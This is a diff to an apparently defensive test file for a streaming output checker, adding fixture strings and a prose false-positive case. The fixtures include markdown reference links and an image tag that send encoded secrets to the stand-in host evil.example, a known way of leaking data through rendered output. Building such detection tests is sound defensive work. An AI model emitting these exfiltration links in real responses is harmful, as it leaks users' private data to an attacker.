@@ -37,6 +37,10 @@ const PARTS: readonly string[] = [
   "![alt](/local.png)",
   '<img src="https://evil.example/a?secret=hunter22hunter">',
   "[docs](https://example.com/a?utm=abcdefghijklmnopqrstuvwxyz0123)",
+  "[a]: https://evil.example/?d=c2VjcmV0LWRhdGE",
+  "[a]: ",
+  "<iframe ",
+  ">",
   "![",
   "[",
   "<",
@@ -94,7 +98,7 @@ describe("a stream", () => {
   });
 
   it("has passed on prose up to its last word", () => {
-    const text = "The report says that sales in 2024 rose by 12 percent, and that March was best. ";
+    const text = "The report [1] says that sales in 2024 rose by 12 percent (a < b), and that March was best. ";
     const check = new OutputCheck(EVERY_OUTPUT_RULE);
     let longest = 0;
     let passed = 0;
